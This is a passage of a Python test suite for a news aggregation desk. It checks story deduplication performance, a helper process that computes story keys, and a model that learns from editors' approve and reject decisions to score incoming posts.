        copies = [row[0] for row in conn.execute(
            "WITH RECURSIVE n(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM n WHERE k < ?) "
            "INSERT INTO posts (source_id, title, text, story_id, classified) "
            "SELECT 3, 'Budget', ?, ?, 1 FROM n RETURNING id",
            (flood - (len(work) and 50), f"{STORY} Flooded.", lead)).fetchall()]
        conn.dialect.store_story_keys(conn, [(key, copy) for copy in copies for key in keys])
        post = add_copy(conn, "daily", "Budget", STORY + " Copied.", f"2026-12-01 09:{len(work)}0:00")
        entry = vesti.StoryEntry(post, "Budget", STORY + " Copied.", keys, vesti.story_since(72))
        found = {}
        work[flood] = database_work(conn, lambda: found.update(vesti.find_stories(conn, [entry])))
        assert found == {post: (lead, set())}
    assert work[2000] < 1.5 * work[50], work


@both
def test_a_story_of_thousands_of_copies_costs_its_card_what_one_of_a_thousand_does(home, closing):
    """A card counts its story's copies up to a thousand ("+1000+ sources"):
    past that, more copies cost its card nothing more."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    lead = add_copy(conn, "wire", "Council approves transport budget", STORY, "2026-12-01 08:00:00")
    conn.execute("UPDATE posts SET classified = 1, direction = 'linux', relevance = 8, "
                 "story_id = id WHERE id = ?", (lead,))
    work = {}
    for copies in (1000, 4000):
        vesti.insert_rows(conn, "posts (source_id, title, text, url, story_id, classified)",
                          [(2 + n % 2, "Budget", "Repost", f"http://daily.example/{n}", lead, 0)
                           for n in range(len(work) and 1000, copies)])
        if conn.dialect is vesti.POSTGRES:
            conn.execute("ANALYZE posts")           # as autovacuum does: plans from real figures
        card = [post for post in vesti.desk_posts(conn, vesti.DeskQuery(direction="linux", min=0,
                                                                         chosen=True))
                if post.id == lead]
        lines = {}
        work[copies] = database_work(conn, lambda: lines.update(vesti.story_copies(conn, card)),
                                     "posts")
        assert len(lines[lead].named) == vesti.STORY_NAMED
    assert work[4000] < 1.5 * work[1000], work
    web = closing(Web(home, settings=s.replace(web_password="s3cret")))
    line = re.search(r'<p class="small story">(.*?)</p>', web.get("/?min=0")[2], re.S)[1]
    assert line.startswith("+1000+ sources: ") and " and 990+ more · " in line, line[-300:]
    russian = re.search(r'<p class="small story">(.*?)</p>', web.get("/?min=0&lang=ru")[2],
                        re.S)[1]
    assert russian.startswith("ещё 1000+ источников: ") and " и ещё 990+ · " in russian, \
        russian[-300:]


# Stories: keys in a helper process --------------------------------------------

def told_twice(conn, stories):
    """`stories` stories (one route each, named first: other numbers, other
    stories), each told by the wire and then, in other words around it, by
    the daily; returns {copy's id: the first telling's id}."""
    firsts = [add_copy(conn, "wire", f"Budget {k}", f"Route {k}. {STORY}", f"2026-12-01 08:{k:02}:00")
              for k in range(stories)]
    return {add_copy(conn, "daily", f"Buses {k}", f"Route {k}. Our correspondent: {STORY} More soon.",
                     f"2026-12-01 09:{k:02}:00"): first for k, first in enumerate(firsts)}


def stories_told(conn, copies):
    """The stories the posts of told_twice ended in, one per telling: which
    telling leads is a matter of which worker wrote first."""
    story = {post: found or post for post, found in conn.execute("SELECT id, story_id FROM posts")}
    return [{story[copy], story[first]} for copy, first in copies.items()]


def test_the_story_key_helper_answers_each_line_with_its_posts_keys():
    posts = [["Budget", STORY], [None, "Photo of the day"], ["Комета", OTHER + " Комета видна."]]
    answers = io.BytesIO()
    vesti.serve_story_keys(io.BytesIO(json.dumps(posts).encode() + b"\n" +
                                      json.dumps(posts[:1]).encode() + b"\n"), answers)
    expected = [vesti.story_keys(vesti.story_words(title, text)) for title, text in posts]
    assert [json.loads(line) for line in answers.getvalue().splitlines()] == [expected, expected[:1]]
    assert expected[0] and expected[1] == [] and expected[2]


def test_a_batch_of_keyword_verdicts_has_its_story_keys_worked_out_by_a_helper(home, monkeypatch,
                                                                             caplog):
    """With keywords alone deciding, the worker process leaves most keys to
    its helper process; the stories are the same as without it."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    copies = told_twice(conn, 60)
    worked_out_here = []
    real_keys = vesti.story_keys
    monkeypatch.setattr(vesti, "story_keys", lambda words: worked_out_here.append(1) or real_keys(words))
    monkeypatch.setattr(vesti, "usable_cores", lambda: 2)
    monkeypatch.setattr(vesti.KeyHelper, "batch", 4)
    with caplog.at_level(logging.WARNING, logger="vesti"):
        stats, finished = vesti.run_workers(db, s, registry, workers=2, quiet=True)
    assert finished and stats.done == 120 and queue_of(db) == {1: 120}
    told = stories_told(conn, copies)
    assert all(len(story) == 1 for story in told) and len(set().union(*told)) == 60
    assert len(worked_out_here) < 120 / 4, len(worked_out_here)
    assert not caplog.records, [r.getMessage() for r in caplog.records]


@pytest.mark.parametrize("command, said", [
    (["/nonexistent/python3"], "did not start"),
    ([sys.executable, "-c", "import sys; sys.exit(3)"], "stopped (exit code 3)"),
    ([sys.executable, "-c", "import sys; sys.stdin.readline(); print('[1, 2'); sys.stdin.read()"],
     "answered out of turn"),
])
def test_a_helper_that_fails_leaves_the_keys_to_the_worker(home, monkeypatch, caplog,
                                                          command, said):
    """A helper that cannot start, dies, or answers nonsense: one warning,
    the worker works the keys out itself, and the stories are right."""
    s, db, registry = story_home(home, "")
    conn = db.conn()
    copies = told_twice(conn, 40)
    monkeypatch.setattr(vesti.KeyHelper, "command", command)
    monkeypatch.setattr(vesti, "usable_cores", lambda: 2)
    monkeypatch.setattr(vesti.KeyHelper, "batch", 4)
    with caplog.at_level(logging.WARNING, logger="vesti"):
        stats, finished = vesti.run_workers(db, s, registry, workers=2, quiet=True)
    assert finished and queue_of(db) == {1: 80}
    told = stories_told(conn, copies)
    assert all(len(story) == 1 for story in told) and len(set().union(*told)) == 40
    warnings = [r.getMessage() for r in caplog.records]
    assert len(warnings) == 1 and said in warnings[0], warnings
    assert "story keys are worked out in the worker from now on" in warnings[0]


def helper_of(pid):
    """The pid of the story key helper a process started, or None."""
    for entry in os.listdir("/proc"):
        with contextlib.suppress(OSError, IndexError, ValueError):
            stat = pathlib.Path(f"/proc/{entry}/stat").read_text()
            cmdline = pathlib.Path(f"/proc/{entry}/cmdline").read_bytes()
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid and b"serve_story_keys" in cmdline:
                return int(entry)
    return None


def gone(pid):
    with contextlib.suppress(OSError):
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"
    return True


@pytest.mark.skipif(not pathlib.Path("/proc/self/stat").exists(), reason="needs /proc")
@pytest.mark.parametrize("stop", ["sigterm to the group", "kill -9"])
def test_the_story_key_helper_ends_with_its_worker(home, stop, closing):
    """Stopped as systemd or a terminal stops it (SIGTERM to the whole
    group), the worker exits 0 and its helper with it, saying nothing; killed
    with kill -9, it leaves no helper behind either."""
    s, db, registry = story_home(home, "")
    told_twice(db.conn(), 40)
    # One worker: its batches grow to 32 posts, and the helper starts.
    process = closing(subprocess.Popen([*VESTI, "worker", "--forever", "--workers", "1"],
                                       cwd=home, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                       text=True, start_new_session=True,
                                       env={**os.environ, "OLLAMA_URL": ""}))
    assert wait_for(lambda: helper_of(process.pid) is not None and queue_of(db) == {1: 80})
    helper = helper_of(process.pid)
    if stop == "kill -9":
        process.kill()
    else:
        os.killpg(process.pid, signal.SIGTERM)
    _, err = process.communicate(timeout=30)
    assert wait_for(lambda: gone(helper), timeout=10)
    if stop != "kill -9":
        assert process.returncode == 0 and "Traceback" not in err, err


# Learning ---------------------------------------------------------------------

@both
def test_a_process_starting_up_reads_the_news_in_general_another_worked_out(home):
    """What news looks like in general (the background every model judges
    by) is worked out from the posts once for its mark and kept: another
    process reads it, even after the posts changed; a new mark is worked
    out afresh. A thousand posts' features took a fresh process a second."""
    s, db, _ = worker_home(home, "")
    conn = db.conn()
    add_posts(conn, 20, text="Rocket engines and orbital launches.")
    conn.execute("UPDATE posts SET classified = 1")
    mark = post_ids(conn)[-1]
    rocket = vesti.stems(["rocket"])[0]
    worked_out = vesti.Background.load(conn, mark)
    assert (worked_out.docs, worked_out.counts[rocket]) == (20, 20)
    conn.execute("UPDATE posts SET text = 'Parliament debates the budget.'")
    other = vesti.Database(s.db)                 # another process's connection
    kept = vesti.Background.load(other.conn(), mark)
    assert (kept.docs, kept.counts) == (worked_out.docs, worked_out.counts)
    add_posts(conn, 1, text="Parliament debates the budget.", start=20)
    conn.execute("UPDATE posts SET classified = 1")
    anew = vesti.Background.load(other.conn(), post_ids(conn)[-1])
    assert (anew.docs, anew.counts[rocket]) == (21, 0)
    other.close()


KERNEL = "The Linux kernel maintainers merged the new scheduler patch for the next release."
GARDEN = "The gardening club meets to discuss roses and tulips at the spring show."
# What an editor of a space channel approves (missions) and rejects (a video
# game that shares the keyword "rocket").
MISSIONS = ["NASA launched a rocket carrying a weather satellite from Florida.",
            "The spacecraft reached the Moon after a rocket burn, the space agency said.",
            "A rocket lifted the new space telescope; astronomers await first images.",
            "The space agency delayed the crewed rocket launch to the station by a week.",
            "Engineers tested the rocket engine for the Mars lander mission of the agency.",
            "The satellite separated from the rocket and unfolded its solar panels in space."]
GAMES = ["Rocket League players crowded the esports arena for the weekend tournament.",
         "The video game studio patched Rocket League cars and the ranked playlist.",
         "A teenager won the Rocket League esports final and a prize of ten thousand dollars.",
         "Gamers complained that the Rocket League update broke the online matchmaking.",
         "The esports team signed two Rocket League players before the season.",
         "Rocket League adds a new arena and car skins in the game's winter update."]


def learned(conn, direction="linux"):
    """(approved, rejected) of a direction's model, and its counted features,
    as a process that judges by it reads them (the decisions owed counted)."""
    vesti.Learners(30).refresh(conn, now=True)
    row = conn.execute("SELECT approved, rejected FROM learners WHERE direction = ?",
                       (direction,)).fetchone()
    words = {r[0]: (r[1], r[2]) for r in conn.execute(
        "SELECT feature, approved, rejected FROM learned_words WHERE direction = ? "
        "AND (approved != 0 OR rejected != 0)", (direction,))}
    return (tuple(row) if row else (0, 0)), words


@both
def test_each_decision_teaches_its_direction_and_an_undo_takes_it_back(home):
    s, db = intake(home, [rss_source("wire", "http://wire.example/feed")])
    conn = db.conn()
    wire = source_row(db, "wire")["id"]
    kernel = [desk_post(conn, wire, k, text=KERNEL) for k in range(3)]
    garden = [desk_post(conn, wire, 10 + k, text=GARDEN) for k in range(2)]
    vesti.set_decisions(conn, kernel, "approved", "ed")
    vesti.set_decisions(conn, garden, "rejected", "ed")
    counts, words = learned(conn)
    assert counts == (3, 2)
    assert (words["kernel"], words["linux kernel"], words["rose"]) == ((3, 0), (3, 0), (0, 2))
    assert words[f"@{wire}"] == (3, 2)                  # the source weighs too
    vesti.set_decisions(conn, kernel[:1], "new", "ed")  # an undo
    counts, words = learned(conn)
    assert counts == (2, 2) and words["kernel"] == (2, 0)
    vesti.set_decisions(conn, garden[:1], "approved", "ed")     # a change of mind
    assert learned(conn)[0] == (3, 1)
    before = learned(conn)
    assert vesti.rebuild_learning(conn) == {"linux": (3, 1)}
    assert learned(conn) == before


def test_words_are_learned_by_their_stems_and_function_words_not_at_all():
    russian = vesti.post_features("Выборы в городе", "Итоги выборов и новые выборах", None)
    assert {"выбор", "город", "итог"} <= russian and not {"в", "и"} & russian
    english = vesti.post_features("The elections", "Election results are in and the count goes on",
                                  7)
    assert {"elect", "result", "count", "@7"} <= english
    assert not {"the", "and", "are", "in"} & english
    # What is left of "we'll", "they're" and "didn't" is no word either.
    cut = vesti.post_features("We'll see", "They're sure the vote didn't count", None)
    assert {"see", "sure", "vote", "count"} <= cut and not {"ll", "re", "didn"} & cut
    assert vesti.reason_words(["elect", "elect result"], "The elections",
                              "Election results are in") == ["elections", "election results"]
    # The source's name in its feed's boilerplate is the source once; the
    # next reason takes its place among the four.
    assert vesti.reason_words(["@3", "copi", "slashdot", "surpris", "taskbar", "dock"],
                              "Taskbar copies", "It copies the Dock, surprising all. Read more "
                              "of this story at Slashdot.", "Slashdot") == \
        ["Slashdot", "copies", "surprising", "taskbar"]
    assert vesti.reason_words(["golem", "linux"], "Linux", "Golem: Linux", "Golem.de") == \
        ["Golem.de", "linux"]
    assert vesti.reason_words(["market", "market ars", "technica", "@4", "verg"],
                              "Market", "Market Ars Technica. The Verge", "Ars Technica") == \
        ["market", "Ars Technica", "verge"]
    assert vesti.reason_words(["verg", "verg market", "market"], "The Verge", "The Verge market",
                              "The Verge") == ["The Verge", "market"]


@both
def test_a_storys_decision_counts_once_whichever_of_its_posts_is_decided(home):
    s, db = intake(home, [rss_source("wire", "http://wire.example/feed")])
    conn = db.conn()
    wire = source_row(db, "wire")["id"]
    lead = desk_post(conn, wire, 1, text=KERNEL)
    copies = [desk_post(conn, wire, k, text=KERNEL + " Source: a wire.") for k in (2, 3)]
    conn.execute("UPDATE posts SET story_id = ? WHERE id IN (?, ?, ?)", (lead, lead, *copies))
    vesti.set_decisions(conn, [copies[0]], "approved", "ed")
    assert set(statuses(conn).values()) == {"approved"}
    counts, words = learned(conn)
    assert counts == (1, 0) and words["kernel"] == (1, 0)
    vesti.set_decisions(conn, [lead], "rejected", "ed")
    assert learned(conn)[0] == (0, 1)
    # Another post now leads the story: it counts, the one before no longer.
    conn.execute("UPDATE posts SET story_id = ? WHERE id IN (?, ?, ?)", (copies[1], *copies, lead))
    vesti.set_decisions(conn, [lead], "rejected", "ed")
    assert learned(conn)[0] == (0, 1)
    assert [r[0] for r in conn.execute("SELECT id FROM posts WHERE learned_as IS NOT NULL")] == \
        [copies[1]]


@both
def test_learn_shows_each_model_and_rebuild_learns_it_again_from_the_decisions(home):
    s, db = intake(home, [rss_source("wire", "http://wire.example/feed")])
    conn = db.conn()
    wire = source_row(db, "wire")["id"]
    vesti.set_decisions(conn, [desk_post(conn, wire, k, text=KERNEL) for k in range(3)],
                        "approved", "ed")
    vesti.set_decisions(conn, [desk_post(conn, wire, 9, text=GARDEN)], "rejected", "ed")
    # Decisions are counted when a process next judges: the first was made before.
    conn.execute("UPDATE posts SET decided_at = '2026-01-02 03:04:05' WHERE title = 'Post 0'")
    result = cli("learn", cwd=home)
    assert result.returncode == 0, result.stderr
    assert re.search(r"^linux: 3 approved, 1 rejected, \d+ features, since 2026-01-02 03:04:05 "
                     r"UTC; no model yet \(needs 30 decisions, 5 of each\)$", result.stdout, re.M)
    before = learned(conn)
    conn.execute("DELETE FROM learned_words")           # counts lost or damaged by hand
    result = cli("learn", "--rebuild", cwd=home)
    assert result.returncode == 0, result.stderr
    assert "4 decisions counted in 1 direction;" in result.stdout
    assert re.search(r" in [0-9.]+ s \([0-9.]+ decisions/s\)$", result.stdout, re.M)
    assert learned(conn) == before
    # "since" is the first decision's time, counted as it lands or again.
    assert conn.execute("SELECT since FROM learners").fetchone()[0] == "2026-01-02 03:04:05"


@both
def test_learn_rebuild_says_how_many_undecided_posts_it_judged_not_only_how_many_changed(home):
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    for k in range(5):
        desk_post(conn, wire, 300 + k, text=MISSIONS[k], title=f"Waiting {k}", direction="space")
    env = {"VESTI_LEARN_MIN": "10"}
    first = cli("learn", "--rebuild", cwd=home, env=env)
    assert first.returncode == 0, first.stderr
    assert "12 decisions counted in 1 direction; 5 undecided posts judged again (5 changed)" \
        in first.stdout
    # The same decisions give the same chances: judged all the same, and said so.
    again = cli("learn", "--rebuild", cwd=home, env=env).stdout
    assert "12 decisions counted in 1 direction; 5 undecided posts judged again (0 changed)" in again
    assert re.search(r"^space: 6 approved, 6 rejected, \d+ features, since 20\d\d-.* UTC; used$",
                     again, re.M) and "None" not in again


def space_home(home, **settings):
    s, db = intake(home, [rss_source("wire", "http://wire.example/feed")], **settings)
    return s, db, vesti.load_registry(s.sources), source_row(db, "wire")["id"]


def decided_space(conn, wire, approved, rejected, start=100):
    """Classified posts of direction space, decided by an editor."""
    ids = []
    for k, text in enumerate(approved + rejected):
        ids.append(desk_post(conn, wire, start + k, text=text, title=text[:30], direction="space"))
    vesti.set_decisions(conn, ids[:len(approved)], "approved", "ed")
    vesti.set_decisions(conn, ids[len(approved):], "rejected", "ed")


@both
def test_decisions_an_older_release_counted_otherwise_or_not_at_all_are_counted_again(home):
    """An older release counted the words themselves, not their stems, and
    an older one still counted no decision: the first process that judges
    by the models counts every stored decision again, as a decision now
    would be, and nothing it judges by is of the old words."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    vesti.Learners(10).refresh(conn, now=True)

    def learned():
        return (sorted(tuple(r) for r in conn.execute(
                    "SELECT direction, feature, approved, rejected FROM learned_words")),
                sorted(tuple(r) for r in conn.execute(
                    "SELECT direction, approved, rejected FROM learners")))
    counted = learned()
    assert counted[1] == [("space", 6, 6)]
    with vesti.transaction(conn):                   # as the older release left it
        conn.execute("UPDATE learned_words SET feature = feature || 's' WHERE feature NOT LIKE '@%'")
        conn.execute("UPDATE meta SET value = 'words-0' WHERE key = 'learn_features'")
    learners = vesti.Learners(10).refresh(conn, now=True)
    assert learned() == counted
    assert 0 < learners.likely("space", vesti.post_features(MISSIONS[0], MISSIONS[0], wire)) < 1
    with vesti.transaction(conn):                   # decided before learning existed
        conn.execute("DELETE FROM learned_words")
        conn.execute("DELETE FROM learners")
        conn.execute("UPDATE posts SET learned_as = NULL, learned_in = NULL")
        conn.execute("DELETE FROM meta WHERE key = 'learn_features'")
    said = cli("learn", cwd=home, env={"VESTI_LEARN_MIN": "10"})
    assert said.returncode == 0 and "space: 6 approved, 6 rejected" in said.stdout, said
    assert learned() == counted


@both
@pytest.mark.parametrize("counted", ["otherwise", "not at all"])
def test_after_an_upgrade_the_page_judges_every_card_by_the_counts_made_anew(home, monkeypatch,
                                                                            counted):
    """An older release's chances are of its own counts (or of none: its
    decisions came before learning): `serve` (and `run`), once started,
    counts the decisions anew and judges every undecided card by what they
    now say, with no decision or page asked for, though the posts it
    stored last are not in the desk's counts yet. Meanwhile no card keeps
    an older chance."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    for k, text in enumerate(MISSIONS + GAMES):                    # undecided, new and old
        desk_post(conn, wire, 400 + k, text=text, title=text[:30], direction="space",
                  minute=k if k % 2 else 600 + k)
    learners = vesti.Learners(10).refresh(conn, now=True)
    assert learners.model("space") is not None
    with vesti.transaction(conn):                   # as the older release left it
        if counted == "otherwise":
            conn.execute("UPDATE learned_words SET feature = feature || 's' "
                         "WHERE feature NOT LIKE '@%'")
            conn.execute("UPDATE meta SET value = 'words-0' WHERE key = 'learn_features'")
        else:
            conn.execute("DELETE FROM learned_words")
            conn.execute("DELETE FROM learners")
            conn.execute("UPDATE posts SET learned_as = NULL, learned_in = NULL")
            conn.execute("DELETE FROM meta WHERE key = 'learn_features'")
        conn.execute("UPDATE posts SET likely = 0.99 WHERE status = 'new'")
    monkeypatch.setattr(vesti.Rescorer, "limit", 2)     # the newest 2 again, then the unjudged
    server = vesti.start_web(db, s, registry, "127.0.0.1", 0)
    try:
        def chances():
            return dict(conn.execute("SELECT id, likely FROM posts WHERE status = 'new'"))
        wait_for(lambda: 0.99 not in chances().values() and None not in chances().values(),
                 state=chances)
    finally:
        vesti.stop_web(server)
    fresh = vesti.Learners(10).refresh(conn, now=True)
    for row in conn.execute("SELECT id, title, text, source_id, keywords, likely FROM posts "
                            "WHERE status = 'new'"):
        features = vesti.post_features(row["title"], row["text"][:vesti.LEARN_CHARS],
                                       row["source_id"], row["id"])
        assert row["likely"] == pytest.approx(
            fresh.likely("space", features, vesti.keyword_count(row["keywords"])))


@both
def test_a_direction_that_learned_enough_judges_its_posts_and_lifts_what_keywords_missed(home):
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS[:4], GAMES[:4])          # 8: not enough yet
    add_posts(conn, 1, source_id=wire, text="The space agency tested a new rocket.", start=200)
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    assert conn.execute("SELECT likely FROM posts WHERE title = 'Post 200'").fetchone()[0] is None
    decided_space(conn, wire, MISSIONS[4:], GAMES[4:])          # 12, 6 of each
    add_posts(conn, 1, source_id=wire, start=300,
              text="The space agency said its spacecraft reached the Moon and the satellite "
                   "unfolded its solar panels.")                                # no keyword
    add_posts(conn, 1, source_id=wire, start=301,
              text="Rocket League esports players won the game tournament.")
    add_posts(conn, 1, source_id=wire, start=302, text="The gardening club shows roses.")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    posts = {r["title"]: r for r in conn.execute(
        "SELECT title, direction, relevance, keywords, likely FROM posts WHERE title LIKE 'Post 30%'")}
    mission, game, garden = posts["Post 300"], posts["Post 301"], posts["Post 302"]
    # The mission joins on words of its own; the game, a keyword hit, is
    # what the editors rejected: off the desk despite its relevance.
    assert (mission["direction"], mission["keywords"]) == ("space", None)
    assert mission["likely"] > vesti.WANTED_LIKELY and mission["likely"] > game["likely"]
    assert game["direction"] == "space" and game["likely"] < vesti.LIKELY_LOW
    assert garden["direction"] is None and garden["likely"] is None
    ids = {r["title"]: r["id"] for r in conn.execute("SELECT id, title FROM posts")}
    shown = [p.id for p in vesti.desk_posts(conn, vesti.DeskQuery(direction="space"))]
    assert ids["Post 301"] not in shown
    # With relevance 2, the mission is on the default desk once the model is sure of it.
    assert (ids["Post 300"] in shown) == (mission["likely"] >= vesti.LIKELY_HIGH)
    everything = vesti.DeskQuery(direction="space", min=0, chosen=True)
    assert ids["Post 301"] in [p.id for p in vesti.desk_posts(conn, everything)]
    by_likely = vesti.desk_posts(conn, vesti.DeskQuery(direction="space", sort="likely", min=0,
                                                       chosen=True))
    assert [p.id for p in by_likely][:1] == [ids["Post 300"]]
    assert counts_match_posts(conn)


@both
def test_a_post_the_model_let_in_says_so_and_stays_among_the_approved(home, closing):
    """A card no keyword matched says that the model let it in. Approved, it
    is among the approved though its relevance (2) is under the default
    floor's: an editor saw and decided it. What the default floor hides is
    said to be less relevant or unlikely to be approved."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    add_posts(conn, 1, source_id=wire, start=300,
              text="The space agency said its spacecraft reached the Moon and the satellite "
                   "unfolded its solar panels.")                                # no keyword
    add_posts(conn, 1, source_id=wire, start=301,
              text="Rocket League esports players won the game tournament.")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    moon = conn.execute("SELECT * FROM posts WHERE title = 'Post 300'").fetchone()
    assert (moon["direction"], moon["keywords"], moon["relevance"]) == ("space", None, 2)
    web = closing(Web(home, settings=s))
    card = card_of(web.get("/?direction=space&min=0")[2], moon["id"])
    assert "no keyword matched: the model let it in" in card
    page = web.get("/?direction=space")[2]
    assert re.search(r"\d+ posts? (is|are) hidden: less relevant, or unlikely to be approved", page)
    assert web.post(f"/posts/{moon['id']}/status",
                    {"status": "approved", "token": web.token()})[0] == 303
    approved = web.get("/?direction=space&status=approved")[2]
    assert moon["id"] in card_ids(approved) and facet(approved, "statuses", "approved") == 7
    assert moon["id"] not in card_ids(web.get("/?direction=space&status=approved&min=3")[2])


def second_source(db, slug="spam"):
    """Another source beside the space home's wire."""
    conn = db.conn()
    return conn.execute("INSERT INTO sources (slug, name, url) VALUES (?, ?, ?) RETURNING id",
                        (slug, slug, f"http://{slug}.example/feed")).fetchone()[0]


@both
def test_decisions_counted_by_another_process_while_a_page_reads_the_models_break_nothing(
        home, monkeypatch):
    """Another process (serve's start after an upgrade, a worker) counts
    decisions after a page read the models' counts and before it read the
    latest decisions they rest on: a source five of whose posts were
    rejected has one approved that the counts do not hold yet. The page
    still judges, every chance between 0 and 1."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    spam = second_source(db)
    decided_space(conn, wire, MISSIONS, GAMES)
    rejected = [desk_post(conn, spam, 300 + k, text=f"{GAMES[k]} Update {k}.", direction="space")
                for k in range(5)]
    vesti.set_decisions(conn, rejected, "rejected", "ed")
    vesti.Learners(10).refresh(conn, now=True)                     # all 17 counted
    late = desk_post(conn, spam, 310, text=f"{GAMES[5]} Update 10.", direction="space")
    other = vesti.Database(s.db).conn()
    latest = vesti.Learners.latest

    def counted_meanwhile(self, conn, model):
        vesti.set_decisions(other, [late], "approved", "ed")
        vesti.learn_owed(other)
        return latest(self, conn, model)
    monkeypatch.setattr(vesti.Learners, "latest", counted_meanwhile)
    learners = vesti.Learners(10).refresh(conn, now=True)
    assert learners.ready("space")
    monkeypatch.undo()
    card = desk_post(conn, spam, 320, text=MISSIONS[0], direction="space")
    vesti.judge_every_card(conn, learners, "space")
    assert 0 < post_row(conn, card)["likely"] < 1


@both
def test_the_report_card_asked_while_a_bulk_decision_is_counted_says_the_model_is_used(home):
    """Thousands decided at once are counted a batch at a time; a report
    card asked for meanwhile calibrates the model it reads once, and says
    it is used."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    vesti.Learners(10).refresh(conn, now=True)
    bulk = [desk_post(conn, wire, 500 + k, text=f"{GAMES[k % 6]} Match {k}.", direction="space")
            for k in range(150)]
    vesti.set_decisions(conn, bulk, "rejected", "ed")           # 150 owed, 100 counted below
    [card] = vesti.quality_report(conn, registry.directions, s, "space", owed=100)
    assert card["model_used"] and vesti.owes_learning(conn)


@both
def test_a_bulk_decision_that_fills_the_latest_decisions_does_not_turn_a_sources_weight(
        home, monkeypatch):
    """A source's approval rate is weighed against what its posts' words say
    on the same decisions: once a bulk rejection of its game news fills its
    share of the latest decisions, its earlier approvals (of missions, now
    older than them) do not lift its next game news."""
    monkeypatch.setattr(vesti, "LEARN_EXAMPLES_FROM", 28)
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    feed = second_source(db, "feed")
    older = [desk_post(conn, feed, 300 + k, text=f"{MISSIONS[k % 6]} Flight {k}.",
                       direction="space") for k in range(12)]
    missions = [desk_post(conn, wire, 330 + k, text=f"{MISSIONS[k]} Launch {k}.",
                          direction="space") for k in range(6)]
    games = [desk_post(conn, wire, 350 + k, text=f"{GAMES[k]} Match {k}.", direction="space")
             for k in range(6)]
    bulk = [desk_post(conn, feed, 400 + k, text=f"{GAMES[k % 6]} Round {k}.",
                      direction="space") for k in range(16)]
    vesti.set_decisions(conn, older + missions, "approved", "ed")
    vesti.set_decisions(conn, games + bulk, "rejected", "ed")
    for k, post in enumerate(older + missions + games + bulk):
        conn.execute("UPDATE posts SET decided_at = ? WHERE id = ?", (november(1000 + k), post))
    learners = vesti.Learners(10).refresh(conn, now=True)
    model = learners.model("space")
    game = vesti.post_features("", f"{GAMES[0]} Final.", feed)
    assert model.source_weight(game) <= 0
    assert model.likely(game) < vesti.LIKELY_LOW


@both
def test_a_few_decisions_on_a_source_say_nothing_of_it(home):
    """Two of three game posts of a podcast approved on the space desk,
    against their words: too few to lift the podcast's next game news."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    decided_space(conn, wire, [f"{text} Report {k}." for k in range(3) for text in MISSIONS],
                  GAMES * 3)
    podcast = second_source(db, "podcast")
    posts = [desk_post(conn, podcast, 300 + k, text=f"{GAMES[k]} Episode {k}.",
                       direction="space") for k in range(3)]
    vesti.set_decisions(conn, posts[:2], "approved", "ed")
    vesti.set_decisions(conn, posts[2:], "rejected", "ed")
    model = vesti.Learners(10).refresh(conn, now=True).model("space")
    game = vesti.post_features("", f"{GAMES[3]} Episode 9.", podcast)
    assert model.source_weight(game) == 0.0
    assert model.likely(game) < vesti.LIKELY_LOW


@both
def test_a_source_the_editors_keep_rejecting_sinks_below_the_floor(home):
    """Ten posts of a source rejected although their words are what the
    editors approve: the source is what they reject, and its next post sinks
    below the floor, its name the reason. Ten rejected posts of another kind
    (their words say why) leave their source's next good post alone."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10)
    conn = db.conn()
    spam, games = second_source(db), second_source(db, "games")
    decided_space(conn, wire, [f"{text} Report {k}." for k in range(3) for text in MISSIONS],
                  GAMES * 2)
    rejected = [desk_post(conn, spam, 300 + k, text=f"{MISSIONS[k % 5]} Update {k}.",
                          direction="space", relevance=8)
                for k in range(10)]                     # good words, a bad source, ten times
    rejected += [desk_post(conn, games, 350 + k, text=f"{GAMES[k % 6]} Match {k}.",
                           direction="space", relevance=8)
                 for k in range(10)]                    # words the editors reject anyway
    vesti.set_decisions(conn, rejected, "rejected", "ed")
    fresh, other, gamers = (desk_post(conn, source, 400 + k, text=f"{MISSIONS[5]} Again {k}.",
                                      direction="space", relevance=8)
                            for k, source in enumerate((spam, wire, games)))
    learners = vesti.Learners(10).refresh(conn, now=True)
    vesti.judge_every_card(conn, learners, "space")
    likely = dict(conn.execute("SELECT id, likely FROM posts WHERE id IN (?, ?, ?)",
                               (fresh, other, gamers)))
    assert likely[fresh] < vesti.LIKELY_LOW < min(likely[other], likely[gamers])
    shown = [p.id for p in vesti.desk_posts(conn, vesti.DeskQuery(direction="space"))]
    assert fresh not in shown and other in shown and gamers in shown
    model = learners.model("space")
    assert "spam" in vesti.reason_words(model.reasons(vesti.post_features("", MISSIONS[5], spam),
                                                      likely[fresh]), "", MISSIONS[5], "spam")
    assert model.source_weight(vesti.post_features("", MISSIONS[5], games)) == 0.0
    # Approved against the model, it is among the report card's disagreements,
    # its source named as the page names it.
    vesti.set_decisions(conn, [fresh], "approved", "ed")
    [card] = vesti.quality_report(conn, registry.directions, s, "space")
    [worst] = [w for w in card["worst"] if w["id"] == fresh]
    assert "spam" in worst["weighed"] and not [w for w in worst["weighed"] if w[0] == "@"]
